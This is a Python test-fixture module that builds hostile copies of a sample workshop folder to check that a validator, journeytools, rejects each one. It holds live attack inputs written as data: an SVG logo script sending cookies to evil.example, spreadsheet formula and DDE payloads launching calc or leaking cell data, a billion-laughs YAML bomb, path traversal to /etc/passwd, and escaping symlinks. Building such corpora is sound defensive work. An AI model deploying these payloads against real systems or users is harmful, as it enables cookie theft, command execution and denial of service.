"""A corpus of hostile workshop folders: each one a valid copy of ``workshops/luggage-store``
with one thing an attacker (or an accident) would put in a client's folder.

Every case is one function that turns a fresh copy into the hostile folder, registered with
what journeytools must answer: the file (and so a line) its message names, the exit code of
``journeytools validate`` (1, or 0 with a warning), and a piece of the message.

* ``CASES``: fixed; ``tests/hostile/test_corpus.py`` runs ``validate``, ``score`` and (a few)
  ``report`` on each and checks the answer, that no traceback is printed and how long it took.
* ``PENDING``: cases whose fix is being made elsewhere, with the reason; their tests are
  skipped until the case moves to ``CASES``.

Build them all to look at (or to try another tool on)::

    python tests/hostile/corpus.py /tmp/hostile          # one folder per case
"""

from __future__ import annotations

import os
import re
import shutil
import struct
import sys
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

ROOT = Path(__file__).resolve().parents[2]
SOURCE = ROOT / "workshops" / "luggage-store"

Build = Callable[[Path], None]


@dataclass(frozen=True)
class Case:
    """One hostile folder and the answer it must get."""

    name: str
    build: Build
    file: str  # the file the message names, with a line: "workshop.yml" → "workshop.yml:N"
    expect: str  # a piece of the message (case-insensitive)
    exit_code: int = 1  # of validate; 0 means the folder is valid but gets a warning
    level: str = "error"
    needs: str = ""  # why the case is pending (PENDING only)
    whole_file: bool = False  # the file as a whole is refused (its size, its kind): no line
    logo: str | None = None  # the logo the case names, for the report's defence in depth
    on_disk: bool = False  # refused by looking at the file (check_files), not by the path's text

    def make(self, root: Path) -> Path:
        """The hostile folder, built under ``root`` (``root/<name>``; ``root`` also holds
        whatever the case places outside the folder)."""
        folder = root / self.name
        if folder.exists():
            shutil.rmtree(folder)
        shutil.copytree(SOURCE, folder, symlinks=False,
                        ignore=shutil.ignore_patterns(".journeytools.lock", "*.tmp"))
        self.build(folder)
        return folder


CASES: dict[str, Case] = {}
PENDING: dict[str, Case] = {}


def case(file: str, expect: str, *, exit_code: int = 1, level: str = "error",
         pending: str = "", whole_file: bool = False, logo: str | None = None,
         on_disk: bool = False) -> Callable[[Build], Build]:
    """Register a builder as a case (named after the function); ``pending`` is the reason it
    is not fixed yet."""

    def register(fn: Build) -> Build:
        name = fn.__name__.replace("_", "-")
        c = Case(name, fn, file, expect, exit_code, level, pending, whole_file, logo, on_disk)
        (PENDING if pending else CASES)[name] = c
        return fn

    return register


# -- helpers ---------------------------------------------------------------------------------

def yml(folder: Path) -> Path:
    return folder / "workshop.yml"


def set_key(folder: Path, key: str, value: str) -> None:
    """Replace a top-level ``key: …`` line of workshop.yml (or add it)."""
    text = yml(folder).read_text(encoding="utf-8")
    line = f"{key}: {value}"
    new, n = re.subn(rf"(?m)^{re.escape(key)}:.*$", line.replace("\\", "\\\\"), text)
    yml(folder).write_text(new if n else text.rstrip("\n") + "\n" + line + "\n", encoding="utf-8")


def set_logo(folder: Path, logo: str) -> None:
    set_key(folder, "branding", f'{{company: Example Luggage Co, primary_color: "#C2185B", '
                                f"logo: '{logo}'}}")


def png(extra: int = 0) -> bytes:
    """A real 1×1 PNG, padded with ``extra`` bytes of an ancillary chunk."""
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    body = chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0))
    if extra:
        body += chunk(b"tEXt", b"pad\0" + b"x" * extra)
    body += chunk(b"IDAT", zlib.compress(b"\0\xff\xff\xff")) + chunk(b"IEND", b"")
    return b"\x89PNG\r\n\x1a\n" + body


def set_cell(folder: Path, file: str, row_id: str, column: str, value: str) -> None:
    """Set one cell of a comma-separated table (the row whose first cell is ``row_id``)."""
    import csv
    import io

    path = folder / file
    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"))))
    j = rows[0].index(column)
    for row in rows[1:]:
        if row and row[0] == row_id:
            row[j] = value
            break
    else:
        raise KeyError(row_id)
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerows(rows)
    path.write_text(out.getvalue(), encoding="utf-8")


# -- the logo --------------------------------------------------------------------------------

@case("workshop.yml", "not an absolute path", logo="/etc/passwd")
def logo_etc_passwd(folder: Path) -> None:
    set_logo(folder, "/etc/passwd")


@case("workshop.yml", "'..'", logo="../../secret.txt")
def logo_parent_secret(folder: Path) -> None:
    set_logo(folder, "../../secret.txt")



@case("workshop.yml", "leads outside", on_disk=True, logo="logo.png")
def logo_symlink_outside(folder: Path) -> None:
    outside = folder.parent / "outside"
    outside.mkdir(exist_ok=True)
    (outside / "secret.png").write_bytes(png())  # even a real image: it is not the client's
    (folder / "logo.png").unlink(missing_ok=True)  # the worked example has a logo of its own
    (folder / "logo.png").symlink_to(outside / "secret.png")
    set_logo(folder, "logo.png")


@case("workshop.yml", "not an image", on_disk=True, logo="logo.png")
def logo_not_an_image(folder: Path) -> None:
    (folder / "logo.png").write_text("root:x:0:0:root:/root:/bin/bash\n", encoding="utf-8")
    set_logo(folder, "logo.png")


@case("workshop.yml", "the limit is 2 MB", on_disk=True, logo="logo.png")
def logo_too_big(folder: Path) -> None:
    (folder / "logo.png").write_bytes(png(extra=3 * 1024 * 1024))
    set_logo(folder, "logo.png")


@case("workshop.yml", "scripts", on_disk=True, logo="logo.svg")
def logo_svg_with_script(folder: Path) -> None:
    (folder / "logo.svg").write_text(
        '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
        "<script>fetch('https://evil.example/?'+document.cookie)</script></svg>\n",
        encoding="utf-8")
    set_logo(folder, "logo.svg")


@case("workshop.yml", "not a workshop folder", on_disk=True)
def based_on_not_a_workshop(folder: Path) -> None:
    (folder.parent / "not-a-workshop").mkdir(exist_ok=True)
    set_key(folder, "based_on", "../not-a-workshop")


# -- YAML ------------------------------------------------------------------------------------

BILLION_LAUGHS = """\
title: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]
b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]
c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]
d: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]
e: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]
f: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]
g: &g [*f,*f,*f,*f,*f,*f,*f,*f,*f]
h: &h [*g,*g,*g,*g,*g,*g,*g,*g,*g]
i: &i [*h,*h,*h,*h,*h,*h,*h,*h,*h]
stages: [*i, *i, *i, *i, *i, *i, *i, *i, *i]
"""


@case("workshop.yml", "anchors")
def billion_laughs(folder: Path) -> None:
    yml(folder).write_text(BILLION_LAUGHS, encoding="utf-8")


@case("workshop.yml", "nest")
def deep_nesting(folder: Path) -> None:
    set_key(folder, "extra", "[" * 5000)


@case("workshop.yml", "anchors")
def yaml_anchors(folder: Path) -> None:
    # harmless in itself, but the format does not need anchors and refuses them all
    set_key(folder, "organisation", "&org Example Luggage Co")
    set_key(folder, "branding", '{company: *org, primary_color: "#C2185B"}')


@case("workshop.yml", "1 MB", whole_file=True)
def yaml_too_big(folder: Path) -> None:
    with yml(folder).open("a", encoding="utf-8") as fh:
        fh.write(("# " + "padding " * 12 + "\n") * 12_000)


# -- dates -----------------------------------------------------------------------------------

@case("workshop.yml", "expected an ISO date YYYY-MM-DD")
def bad_date(folder: Path) -> None:
    set_key(folder, "date", "2026-13-45")


@case("workshop.yml", "expected an ISO date YYYY-MM-DD")
def bad_reviewed_date(folder: Path) -> None:
    set_key(folder, "reviewed", "2026-02-30")


@case("kpis.csv", "ISO date")
def kpi_bad_date(folder: Path) -> None:
    set_cell(folder, "kpis.csv", "cart-conversion", "measured_at", "2026-13-45")


# -- text a spreadsheet would run --------------------------------------------------------------

@case("pain_points.csv", "a spreadsheet would run it as a formula", exit_code=0, level="warning")
def formula_cells(folder: Path) -> None:
    set_cell(folder, "pain_points.csv", "cart-error", "description",
             '=HYPERLINK("https://evil.example/?"&A1,"click")')
    set_cell(folder, "opportunities.csv", "fix-cart-error", "title", "@SUM(1+1)*cmd|' /C calc'!A0")
    set_cell(folder, "opportunities.csv", "error-rescue-chat", "description", "-2+3+cmd|' /C calc'!A0")


# -- being fixed elsewhere ---------------------------------------------------------------------

@case("votes.csv", "votes")
def votes_huge(folder: Path) -> None:
    path = folder / "votes.csv"
    lines = path.read_text(encoding="utf-8").splitlines()
    header = lines[0].split(",")
    row = lines[1].split(",")
    row[header.index("votes")] = str(10 ** 30)
    path.write_text("\n".join([lines[0], ",".join(row), *lines[2:]]) + "\n", encoding="utf-8")


@case("personas.csv", "not a regular file", whole_file=True)
def personas_fifo(folder: Path) -> None:
    (folder / "personas.csv").unlink()
    os.mkfifo(folder / "personas.csv")


@case("personas.csv", "outside", whole_file=True)
def table_symlink_outside(folder: Path) -> None:
    outside = folder.parent / "outside"
    outside.mkdir(exist_ok=True)
    shutil.copy(folder / "personas.csv", outside / "personas.csv")
    (folder / "personas.csv").unlink()
    (folder / "personas.csv").symlink_to(outside / "personas.csv")


@case("kpis.csv", "kpis.csv")
def kpis_truncated_row(folder: Path) -> None:
    path = folder / "kpis.csv"
    data = path.read_bytes().rstrip(b"\n")
    path.write_bytes(data[: data.rindex(b",")])


@case("opportunities.csv", "'1,5'")
def decimal_commas(folder: Path) -> None:
    set_cell(folder, "opportunities.csv", "fix-cart-error", "effort", "1,5")


def build_all(root: Path, names: list[str] | None = None) -> dict[str, Path]:
    """Build the cases (default: all, pending too) under ``root``; name -> folder."""
    every = {**CASES, **PENDING}
    out = {}
    for name in names or list(every):
        out[name] = every[name].make(root / name)  # each case gets a root of its own
    return out


def main(argv: list[str]) -> int:
    if len(argv) != 1:
        print(__doc__)
        return 2
    for name, folder in build_all(Path(argv[0])).items():
        note = f"  (pending: {PENDING[name].needs})" if name in PENDING else ""
        print(f"{folder}{note}")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
